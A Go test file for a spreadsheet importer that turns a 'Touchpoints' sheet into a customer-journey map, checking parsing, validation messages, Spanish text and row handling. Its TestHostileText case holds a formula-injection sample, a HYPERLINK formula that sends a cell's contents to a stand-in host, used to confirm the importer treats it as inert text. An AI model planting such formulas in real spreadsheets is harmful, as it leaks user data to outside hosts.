package xlsx_test

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/journey-cx/journey/journey"
	"github.com/journey-cx/journey/journey/importer"
	"github.com/journey-cx/journey/journey/importer/xlsx"
	"github.com/journey-cx/journey/journey/workbook"
)

// These tests build their workbooks cell by cell with the workbook library,
// by the contract of package workbook, without the writer.

// sheet is a Touchpoints sheet: its header keys and its rows (a string is a
// string cell, a number or bool a cell of its own; formula{} a formula).
type sheet struct {
	head  []string
	rows  [][]any
	props *excelize.DocProperties
}

// formula is a cell holding a formula.
type formula string

// bytes writes the sheet as a workbook.
func (s sheet) bytes(t *testing.T) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	must(t, f.SetSheetName("Sheet1", workbook.SheetTouchpoints))
	for i, h := range s.head {
		must(t, f.SetCellStr(workbook.SheetTouchpoints, cellName(t, i+1, 1), h))
	}
	for r, row := range s.rows {
		for c, v := range row {
			name := cellName(t, c+1, r+2)
			switch v := v.(type) {
			case nil:
			case string:
				must(t, f.SetCellStr(workbook.SheetTouchpoints, name, v))
			case formula:
				must(t, f.SetCellFormula(workbook.SheetTouchpoints, name, string(v)))
			default:
				must(t, f.SetCellValue(workbook.SheetTouchpoints, name, v))
			}
		}
	}
	if s.props != nil {
		must(t, f.SetDocProps(s.props))
	}
	var b bytes.Buffer
	must(t, f.Write(&b))
	return b.Bytes()
}

func cellName(t *testing.T, col, row int) string {
	t.Helper()
	name, err := excelize.CoordinatesToCellName(col, row)
	must(t, err)
	return name
}

// tableBase is the map the table tests' workbooks are imported into.
const tableBase = `version: 1
id: tabla
title: Tabla
personas:
  - {id: marta, name: Marta}
  - {id: jorge, name: Jorge}
channels:
  - {id: web, name: Web}
  - {id: phone, name: Teléfono}
owners:
  - {id: sales, name: Ventas}
  - {id: it, name: Sistemas}
stages:
  - id: need
    name: Necesidad
    touchpoints:
      - {id: a, name: A}
      - {id: b, name: B}
      - {id: c, name: C}
`

func baseMap(t *testing.T) *journey.Map {
	t.Helper()
	m, diags := journey.Load("tabla.journey.yaml", []byte(tableBase), journey.Options{})
	if diags.HasErrors() {
		t.Fatal(diags)
	}
	return m
}

// oneColumn is a sheet of touchpoints a, b and c, where a's cell in the
// column key holds v.
func oneColumn(key string, v any) sheet {
	return sheet{
		head: []string{workbook.KeyStageID, workbook.KeyID, workbook.KeyName, key},
		rows: [][]any{{"need", "a", "A", v}, {"need", "b", "B"}, {"need", "c", "C"}},
	}
}

// importSheet imports s into the table base and fails on errors.
func importSheet(t *testing.T, s sheet) (*journey.Map, []importer.Note) {
	t.Helper()
	m, notes, diags := xlsx.Import(s.bytes(t), xlsx.Options{File: "t.xlsx", Base: baseMap(t)})
	if diags.HasErrors() {
		t.Fatalf("import: %v", diags)
	}
	return m, notes
}

func ptr[T any](v T) *T { return &v }

// TestColumns: each column key fills its field of the touchpoint.
func TestColumns(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		key  string
		v    any
		want func(tp *journey.Touchpoint) any // what it gives
		is   any
	}{
		{workbook.KeyDescription, "Primera línea\r\nsegunda  ", func(tp *journey.Touchpoint) any { return tp.Description }, "Primera línea\nsegunda"},
		{workbook.KeyChannel, " web ", func(tp *journey.Touchpoint) any { return tp.Channel }, "web"},
		{workbook.KeyOwner, "sales", func(tp *journey.Touchpoint) any { return tp.Owner }, "sales"},
		{workbook.KeyAction, "Compara tarifas", func(tp *journey.Touchpoint) any { return tp.Action }, "Compara tarifas"},
		{workbook.KeyThought, "¿Cuál es más barata?", func(tp *journey.Touchpoint) any { return tp.Thought }, "¿Cuál es más barata?"},
		{workbook.KeyEmotion, 4, func(tp *journey.Touchpoint) any { return tp.Emotion }, []journey.Emotion{{Value: 4}}},
		{workbook.KeyEmotion, 2.5, func(tp *journey.Touchpoint) any { return tp.Emotion }, []journey.Emotion{{Value: 2.5}}},
		{workbook.KeyEmotion, "4,5", func(tp *journey.Touchpoint) any { return tp.Emotion }, []journey.Emotion{{Value: 4.5}}},
		{workbook.KeyEmotion, "", func(tp *journey.Touchpoint) any { return tp.Emotion }, []journey.Emotion(nil)},
		{workbook.EmotionColumn("marta"), 2, func(tp *journey.Touchpoint) any { return tp.Emotion }, []journey.Emotion{{Persona: "marta", Value: 2}}},
		{workbook.KeyMomentOfTruth, "FMOT", func(tp *journey.Touchpoint) any { return tp.MomentOfTruth }, "fmot"},
		{workbook.KeyNext, "c\nb", func(tp *journey.Touchpoint) any { return fmt.Sprint(tp.NextSet, tp.Next) }, "true [c b]"},
		{workbook.KeyNext, workbook.EndOfFlow, func(tp *journey.Touchpoint) any { return fmt.Sprint(tp.NextSet, tp.Next) }, "true []"},
		{workbook.KeyNext, "", func(tp *journey.Touchpoint) any { return fmt.Sprint(tp.NextSet, tp.Next) }, "false []"},
		{workbook.KeyPains, "Espera\nPrecio", func(tp *journey.Touchpoint) any { return tp.Pains }, []journey.Pain{{Text: "Espera"}, {Text: "Precio"}}},
		{workbook.KeyOpportunities, "Chat", func(tp *journey.Touchpoint) any { return tp.Opportunities }, []journey.Opportunity{{Text: "Chat"}}},
		{workbook.KeyNPSScore, -20, func(tp *journey.Touchpoint) any { return *tp.Metrics.NPS.Score }, -20.0},
		{workbook.KeyNPSPromoters, 40, func(tp *journey.Touchpoint) any { return *tp.Metrics.NPS.Promoters }, 40},
		{workbook.KeyNPSDistribution, "0,0,0,0,0,0,0,1,2,3,4", func(tp *journey.Touchpoint) any { return tp.Metrics.NPS.Distribution }, []int{0, 0, 0, 0, 0, 0, 0, 1, 2, 3, 4}},
		{workbook.KeyCESMean, "5,5", func(tp *journey.Touchpoint) any { return fmt.Sprint(*tp.Metrics.CES.Mean, tp.Metrics.CES.Scale) }, "5.5 7"},
		{workbook.KeyCESReversed, true, func(tp *journey.Touchpoint) any { return tp.Metrics.CES.Reversed }, true},
		{workbook.KeyCSATTotal, 50, func(tp *journey.Touchpoint) any { return *tp.Metrics.CSAT.Total }, 50},
		{workbook.KeyCSATDistribution, "1; 2; 3; 4; 5", func(tp *journey.Touchpoint) any { return tp.Metrics.CSAT.Distribution }, []int{1, 2, 3, 4, 5}},
		{workbook.KeyKPIName, "Tiempo\nAbandono", func(tp *journey.Touchpoint) any { return tp.Metrics.KPIs }, []journey.KPI{{Name: "Tiempo"}, {Name: "Abandono"}}},
	} {
		t.Run(fmt.Sprintf("%s=%v", tt.key, tt.v), func(t *testing.T) {
			t.Parallel()
			m, _ := importSheet(t, oneColumn(tt.key, tt.v))
			got := tt.want(m.Touchpoints()[0])
			if fmt.Sprintf("%#v", got) != fmt.Sprintf("%#v", tt.is) {
				t.Errorf("got %#v, want %#v", got, tt.is)
			}
		})
	}
}

// TestCompanionColumns: line i of a companion column belongs to item i.
func TestCompanionColumns(t *testing.T) {
	t.Parallel()
	m, notes := importSheet(t, sheet{
		head: []string{"stage_id", "id", "name", "pains", "pain_severity", "pain_evidence",
			"opportunities", "opportunity_owner", "opportunity_status", "opportunity_impact", "opportunity_effort",
			"kpi_name", "kpi_value", "kpi_target", "kpi_unit", "kpi_better", "ces_mean", "ces_scale", "ces_n"},
		rows: [][]any{{"need", "a", "A", "Espera\n\nPrecio", "HIGH\nlow", "\nencuesta", "Chat\nCita previa", "it\n", "\nplanned", "4\n2", "\n3",
			"Tiempo\nAbandono", "3,5\n12", "2\n", "min", "lower\nLower", 4, "5", 120}},
	})
	tp := m.Touchpoints()[0]
	wantPains := []journey.Pain{{Text: "Espera", Severity: "high"}, {Text: "Precio"}}
	if fmt.Sprint(tp.Pains) != fmt.Sprint(wantPains) {
		t.Errorf("pains %+v, want %+v", tp.Pains, wantPains)
	}
	if !slices.ContainsFunc(notes, func(n importer.Note) bool {
		return n.Line == 2 && n.Message == "line 2 of the pains of row 2 is blank: its severity and evidence are not carried over"
	}) {
		t.Errorf("no note on the blank pain line: %v", notes)
	}
	wantOpps := []journey.Opportunity{{Text: "Chat", Owner: "it", Impact: 4}, {Text: "Cita previa", Status: "planned", Impact: 2, Effort: 3}}
	if fmt.Sprint(tp.Opportunities) != fmt.Sprint(wantOpps) {
		t.Errorf("opportunities %+v, want %+v", tp.Opportunities, wantOpps)
	}
	k := tp.Metrics.KPIs
	if len(k) != 2 || k[0].Name != "Tiempo" || *k[0].Value != 3.5 || *k[0].Target != 2 || k[0].Unit != "min" || k[0].Better != "lower" ||
		k[1].Name != "Abandono" || *k[1].Value != 12 || k[1].Target != nil || k[1].Unit != "" || k[1].Better != "lower" {
		t.Errorf("kpis %+v", k)
	}
	if c := tp.Metrics.CES; *c.Mean != 4 || c.Scale != 5 || *c.N != 120 {
		t.Errorf("ces %+v", c)
	}
}

// TestExtraCompanionLines: lines beyond the items are noted, not kept.
func TestExtraCompanionLines(t *testing.T) {
	t.Parallel()
	m, notes := importSheet(t, sheet{
		head: []string{"stage_id", "id", "name", "pains", "pain_severity"},
		rows: [][]any{{"need", "a", "A", "Espera", "high\nlow"}},
	})
	if p := m.Touchpoints()[0].Pains; len(p) != 1 || p[0].Severity != "high" {
		t.Errorf("pains %+v", p)
	}
	want := `cell E2 (pain_severity) has 2 lines but pains has 1: the extra lines are not carried over`
	if !slices.Contains(notes, importer.Note{Line: 2, Message: want}) {
		t.Errorf("notes %v, want %q", notes, want)
	}
}

// TestHeader: columns are found by key, whatever their order, case or
// surrounding spaces; unknown columns are noted and ignored; a duplicate
// or missing key is an error on row 1.
func TestHeader(t *testing.T) {
	t.Parallel()
	m, notes := importSheet(t, sheet{
		head: []string{"Colour", " NAME ", "Id", "", "stage_id", "notas"},
		rows: [][]any{{"rojo", "A", "a", "ignored", "need", "no importa"}},
	})
	tp := m.Touchpoints()[0]
	if tp.ID != "a" || tp.Name != "A" {
		t.Errorf("touchpoint %q %q", tp.ID, tp.Name)
	}
	for _, want := range []importer.Note{
		{Line: 1, Message: `column A1 ("Colour") is not a touchpoint field: ignored`},
		{Line: 1, Message: `column F1 ("notas") is not a touchpoint field: ignored`},
	} {
		if !slices.Contains(notes, want) {
			t.Errorf("notes %v lack %v", notes, want)
		}
	}
	for _, tt := range []struct {
		name string
		head []string
		want journey.Diagnostic
	}{
		{"duplicate", []string{"stage_id", "id", "name", "Name"},
			journey.Diagnostic{Line: 1, Column: 4, Message: `cell D1: column "name" appears twice`}},
		{"missing stage_id", []string{"id", "name"},
			journey.Diagnostic{Line: 1, Message: `the Touchpoints sheet has no "stage_id" column`}},
		{"missing id", []string{"stage_id", "name"},
			journey.Diagnostic{Line: 1, Message: `the Touchpoints sheet has no "id" column`}},
		{"not a persona id", []string{"stage_id", "id", "name", "emotion:Marta López"},
			journey.Diagnostic{Line: 1, Column: 4, Message: `cell D1: "emotion:Marta López" does not name a persona id`}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			s := sheet{head: tt.head, rows: [][]any{{"need", "a", "A"}}}
			m, _, diags := xlsx.Import(s.bytes(t), xlsx.Options{File: "t.xlsx", Base: baseMap(t)})
			if m != nil || len(diags) != 1 {
				t.Fatalf("map %v, diagnostics %v; want one error", m != nil, diags)
			}
			d := diags[0]
			if d.Severity != journey.SeverityError || d.File != "t.xlsx" || d.Line != tt.want.Line || d.Column != tt.want.Column || d.Message != tt.want.Message {
				t.Errorf("got %s, want %d:%d %s", d, tt.want.Line, tt.want.Column, tt.want.Message)
			}
		})
	}
}

// TestWrongCells: a cell that can't be read is an error at its row and
// column, naming the cell and its key; the map is nil.
func TestWrongCells(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		key  string
		v    any
		want string // the message after "cell D2 (key): "
	}{
		{workbook.KeyEmotion, "muy bien", `want a number, got "muy bien"`},
		{workbook.KeyEmotion, 7, "want a number from 1 to 5, got 7"},
		{workbook.KeyEmotion, "0", "want a number from 1 to 5, got 0"},
		{workbook.KeyEmotion, "NaN", `want a number, got "NaN"`},
		{workbook.EmotionColumn("marta"), "=1+1", `want a number, got "=1+1"`},
		{workbook.KeyNPSPromoters, "1.5", "want a whole number, got 1.5"},
		{workbook.KeyNPSPromoters, -1, "want a number from 0 to 9007199254740992, got -1"},
		{workbook.KeyNPSScore, 101, "want a number from -100 to 100, got 101"},
		{workbook.KeyNPSDistribution, "1,2,3", "want 11 comma-separated counts, got 3"},
		{workbook.KeyCESDistribution, "1,2,x,4,5,6,7", `count 3 is "x": want a whole number, 0 or more`},
		{workbook.KeyCESMean, 8, "want a number from 1 to 7, got 8"},
		{workbook.KeyCSATDistribution, "1,2,3,4,-5", `count 5 is "-5": want a whole number, 0 or more`},
		{workbook.KeyCESReversed, "quizá", `want TRUE or FALSE, got "quizá"`},
		{workbook.KeyMomentOfTruth, "fmto", `"fmto" is not one of zmot, fmot, smot, ultimate`},
		{workbook.KeyStageID, "Mi Etapa", `"Mi Etapa" is not a valid id: use lowercase letters, digits and dashes (try "mi-etapa")`},
		{workbook.KeyID, "Not Slug", `"Not Slug" is not a valid id: use lowercase letters, digits and dashes (try "not-slug")`},
	} {
		t.Run(fmt.Sprintf("%s=%v", tt.key, tt.v), func(t *testing.T) {
			t.Parallel()
			s := oneColumn(tt.key, tt.v)
			col := 4
			if i := slices.Index(s.head[:3], tt.key); i >= 0 { // an identifying column: overwrite it
				s.head = s.head[:3]
				s.rows[0] = s.rows[0][:3]
				s.rows[0][i] = tt.v
				col = i + 1
			}
			m, notes, diags := xlsx.Import(s.bytes(t), xlsx.Options{File: "t.xlsx", Base: baseMap(t)})
			if m != nil || notes != nil {
				t.Errorf("a map and notes along with errors")
			}
			if len(diags) != 1 {
				t.Fatalf("diagnostics %v, want one", diags)
			}
			ref := cellName(t, col, 2)
			want := fmt.Sprintf("t.xlsx:2:%d: error: cell %s (%s): %s", col, ref, tt.key, tt.want)
			if got := diags[0].String(); !strings.HasPrefix(got, want) {
				t.Errorf("got  %s\nwant %s", got, want)
			}
		})
	}
}

// TestLevelsAndEnums: each line of a companion column is checked.
func TestLevelsAndEnums(t *testing.T) {
	t.Parallel()
	s := sheet{
		head: []string{"stage_id", "id", "name", "opportunities", "opportunity_impact", "opportunity_status", "kpi_name", "kpi_value", "kpi_better", "pains", "pain_severity"},
		rows: [][]any{{"need", "a", "A", "x\ny", "3\n9", "idea\nsoon", "k", "abc", "up", "p", "huge"}},
	}
	_, _, diags := xlsx.Import(s.bytes(t), xlsx.Options{File: "t.xlsx", Base: baseMap(t)})
	var got []string
	for _, d := range diags {
		got = append(got, d.Location()+" "+d.Message)
	}
	want := []string{
		`t.xlsx:2:5 cell E2 (opportunity_impact): want whole numbers from 1 to 5, one per line, got "9"`,
		`t.xlsx:2:6 cell F2 (opportunity_status): "soon" is not one of idea, planned, in-progress, done`,
		`t.xlsx:2:8 cell H2 (kpi_value): want numbers, one per line, got "abc"`,
		`t.xlsx:2:9 cell I2 (kpi_better): "up" is not one of higher, lower`,
		`t.xlsx:2:11 cell K2 (pain_severity): "huge" is not one of`,
	}
	if len(got) != len(want) {
		t.Fatalf("diagnostics\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	for i := range want {
		if !strings.HasPrefix(got[i], want[i]) {
			t.Errorf("got  %s\nwant %s", got[i], want[i])
		}
	}
}

// TestReferences: with a base, ids the base does not declare are errors
// on their cells.
func TestReferences(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		key  string
		v    string
		want string
	}{
		{workbook.KeyChannel, "fax", `t.xlsx:2:4: error: cell D2 (channel): unknown channel "fax" (the map declares: web, phone)`},
		{workbook.KeyOwner, "sale", `t.xlsx:2:4: error: cell D2 (owner): unknown owner "sale" (the map declares: sales, it)`},
		{workbook.KeyOpportunityOwner, "nadie", `t.xlsx:2:4: error: cell D2 (opportunity_owner): unknown owner "nadie"`},
		{workbook.KeyNext, "zz", `t.xlsx:2:4: error: cell D2 (next): unknown touchpoint "zz" (the map declares: a, b, c)`},
		{workbook.EmotionColumn("pepe"), "3", `t.xlsx:2:4: error: cell D2 (emotion:pepe): unknown persona "pepe" (the map declares: marta, jorge)`},
	} {
		t.Run(tt.key, func(t *testing.T) {
			t.Parallel()
			s := oneColumn(tt.key, tt.v)
			if tt.key == workbook.KeyOpportunityOwner {
				s.head = append(s.head, workbook.KeyOpportunities)
				s.rows[0] = append(s.rows[0], "Chat")
			}
			_, _, diags := xlsx.Import(s.bytes(t), xlsx.Options{File: "t.xlsx", Base: baseMap(t)})
			if len(diags) != 1 || !strings.HasPrefix(diags[0].String(), tt.want) {
				t.Errorf("diagnostics %v, want %s", diags, tt.want)
			}
		})
	}
}

// TestSpanishText: accents, ñ, inverted marks and emoji come back as typed.
func TestSpanishText(t *testing.T) {
	t.Parallel()
	texts := []string{"Añadir cónyuge", "¿Cuánto tardará el técnico?", "Pequeño susto 😬", "Ñandú, pingüino, acción"}
	m, _ := importSheet(t, sheet{
		head: []string{"stage_id", "stage_name", "id", "name", "thought", "pains", "action", "description"},
		rows: [][]any{{"need", "Investigación y compañía", "a", texts[0], texts[1], texts[2] + "\n" + texts[3], texts[3], texts[1]}},
	})
	tp := m.Touchpoints()[0]
	if m.Stages[0].Name != "Investigación y compañía" {
		t.Errorf("stage name %q", m.Stages[0].Name)
	}
	got := []string{tp.Name, tp.Thought, tp.Pains[0].Text, tp.Pains[1].Text, tp.Action, tp.Description}
	want := []string{texts[0], texts[1], texts[2], texts[3], texts[3], texts[1]}
	if !slices.Equal(got, want) {
		t.Errorf("got %q\nwant %q", got, want)
	}

	// A row without an id gets one from its name, accents folded.
	m, notes := importSheet(t, sheet{
		head: []string{"stage_id", "id", "name"},
		rows: [][]any{{"need", "", "Señal de compañía"}},
	})
	if id := m.Touchpoints()[0].ID; id != "senal-de-compania" {
		t.Errorf("id %q, want senal-de-compania", id)
	}
	if !slices.Contains(notes, importer.Note{Line: 2, Message: `row 2 has no id: it gets "senal-de-compania", from its name`}) {
		t.Errorf("notes %v", notes)
	}
}

// TestHostileText: text that looks like a formula is imported as the text
// it is; a real formula is never evaluated (the importer reads no cached
// result, and computes none).
func TestHostileText(t *testing.T) {
	t.Parallel()
	hostile := []string{`=HYPERLINK("http://evil.example/?q="&A1,"Haz clic")`, "+1", "-2", "@SUM(A1:A9)", "=1+2", "<b>negrita</b> & \"comillas\""}
	m, _ := importSheet(t, sheet{
		head: []string{"stage_id", "id", "name", "action", "thought", "description", "pains", "kpi_name", "kpi_unit"},
		rows: [][]any{
			{"need", "a", hostile[0], hostile[1], hostile[2], hostile[5], strings.Join(hostile[3:5], "\n"), "=k", "@u"},
			{"need", "b", "B", formula("1+1"), formula(`HYPERLINK("http://x","y")`)},
		},
	})
	a, b := m.Touchpoints()[0], m.Touchpoints()[1]
	got := []string{a.Name, a.Action, a.Thought, a.Pains[0].Text, a.Pains[1].Text, a.Description, a.Metrics.KPIs[0].Name, a.Metrics.KPIs[0].Unit}
	want := []string{hostile[0], hostile[1], hostile[2], hostile[3], hostile[4], hostile[5], "=k", "@u"}
	if !slices.Equal(got, want) {
		t.Errorf("got %q\nwant %q", got, want)
	}
	if b.Action != "" || b.Thought != "" {
		t.Errorf("formula cells read as %q, %q; want them empty, not evaluated", b.Action, b.Thought)
	}
}

// TestRows: blank rows are skipped, stages come in the order of their
// first row, a stage's scattered rows join it, and duplicate ids are errors.
func TestRows(t *testing.T) {
	t.Parallel()
	m, notes := importSheet(t, sheet{
		head: []string{"stage_id", "stage_name", "id", "name"},
		rows: [][]any{
			{"later", "Después", "c", "C"},
			{},
			{"", "", "", ""},
			{"need", "", "a", ""},
			{"later", "Otro nombre", "b", "B"},
		},
	})
	var got []string
	for _, s := range m.Stages {
		var ids []string
		for _, tp := range s.Touchpoints {
			ids = append(ids, tp.ID+"="+tp.Name)
		}
		got = append(got, s.ID+"("+s.Name+"):"+strings.Join(ids, ","))
	}
	want := []string{"later(Después):c=C,b=B", "need(Necesidad):a=a"}
	if !slices.Equal(got, want) {
		t.Errorf("stages %q, want %q", got, want)
	}
	for _, n := range []importer.Note{
		{Line: 5, Message: `row 5 has no name: it is named after its id, "a"`},
		{Line: 6, Message: `row 6 names stage "later" "Otro nombre", an earlier row "Después": the first name is kept`},
		{Line: 6, Message: `the rows of stage "later" are not together: row 6 joins the stage's earlier rows`},
	} {
		if !slices.Contains(notes, n) {
			t.Errorf("notes %v lack %v", notes, n)
		}
	}

	s := sheet{head: []string{"stage_id", "id", "name"}, rows: [][]any{{"need", "a", "A"}, {"need", "a", "Otra"}}}
	_, _, diags := xlsx.Import(s.bytes(t), xlsx.Options{File: "t.xlsx", Base: baseMap(t)})
	if want := `t.xlsx:3:2: error: cell B3 (id): touchpoint id "a" is also on row 2: ids must be unique`; len(diags) != 1 || diags[0].String() != want {
		t.Errorf("diagnostics %v, want %s", diags, want)
	}
	s = sheet{head: []string{"stage_id", "id", "name"}, rows: [][]any{{"", "", ""}}}
	_, _, diags = xlsx.Import(s.bytes(t), xlsx.Options{File: "t.xlsx"})
	if len(diags) != 1 || !strings.Contains(diags[0].Message, "the Touchpoints sheet has no touchpoint rows") {
		t.Errorf("diagnostics %v, want no rows", diags)
	}
}

// TestWithoutBase: the map's identity comes from the document properties,
// and the channels, owners and personas used are declared by id.
func TestWithoutBase(t *testing.T) {
	t.Parallel()
	s := sheet{
		head: []string{"stage_id", "id", "name", "channel", "owner", "opportunities", "opportunity_owner", "emotion:marta"},
		rows: [][]any{{"need", "a", "A", "web", "sales", "Chat", "it", 4}, {"need", "b", "B", "web"}},
		props: &excelize.DocProperties{Title: "Alta de fibra en años", Subject: "alta-fibra", Description: "Descripción",
			Keywords: "fibra, hogar,, alta", Language: "es"},
	}
	m, _, diags := xlsx.Import(s.bytes(t), xlsx.Options{File: "t.xlsx"})
	if diags.HasErrors() {
		t.Fatal(diags)
	}
	if m.Title != "Alta de fibra en años" || m.ID != "alta-fibra" || m.Description != "Descripción" || m.Locale != "es" ||
		!slices.Equal(m.Tags, []string{"fibra", "hogar", "alta"}) {
		t.Errorf("identity %q %q %q %q %q", m.Title, m.ID, m.Description, m.Locale, m.Tags)
	}
	if fmt.Sprint(m.Channels) != fmt.Sprint([]journey.Channel{{ID: "web", Name: "web"}}) ||
		fmt.Sprint(m.Owners) != fmt.Sprint([]journey.Owner{{ID: "sales", Name: "sales"}, {ID: "it", Name: "it"}}) ||
		fmt.Sprint(m.Personas) != fmt.Sprint([]journey.Persona{{ID: "marta", Name: "marta"}}) {
		t.Errorf("declared %v %v %v", m.Channels, m.Owners, m.Personas)
	}

	s.props = &excelize.DocProperties{Subject: "Not an id"}
	m, notes, diags := xlsx.Import(s.bytes(t), xlsx.Options{File: "t.xlsx"})
	if diags.HasErrors() {
		t.Fatal(diags)
	}
	if m.Title != "Imported journey" || m.ID != "imported-journey" {
		t.Errorf("title %q id %q", m.Title, m.ID)
	}
	for _, n := range []importer.Note{
		{Message: `the workbook has no title property: the map is titled "Imported journey"`},
		{Message: `the workbook's subject "Not an id" is not a map id: the map's id is "imported-journey"`},
	} {
		if !slices.Contains(notes, n) {
			t.Errorf("notes %v lack %v", notes, n)
		}
	}
}

// TestBothEmotions: a row gives the emotion once or per persona.
func TestBothEmotions(t *testing.T) {
	t.Parallel()
	s := sheet{head: []string{"stage_id", "id", "name", "emotion", "emotion:marta"}, rows: [][]any{{"need", "a", "A", 3, 4}}}
	_, _, diags := xlsx.Import(s.bytes(t), xlsx.Options{File: "t.xlsx", Base: baseMap(t)})
	if want := "t.xlsx:2:4: error: cell D2 (emotion): give the emotion once, or per persona, not both"; len(diags) != 1 || diags[0].String() != want {
		t.Errorf("diagnostics %v, want %s", diags, want)
	}
}
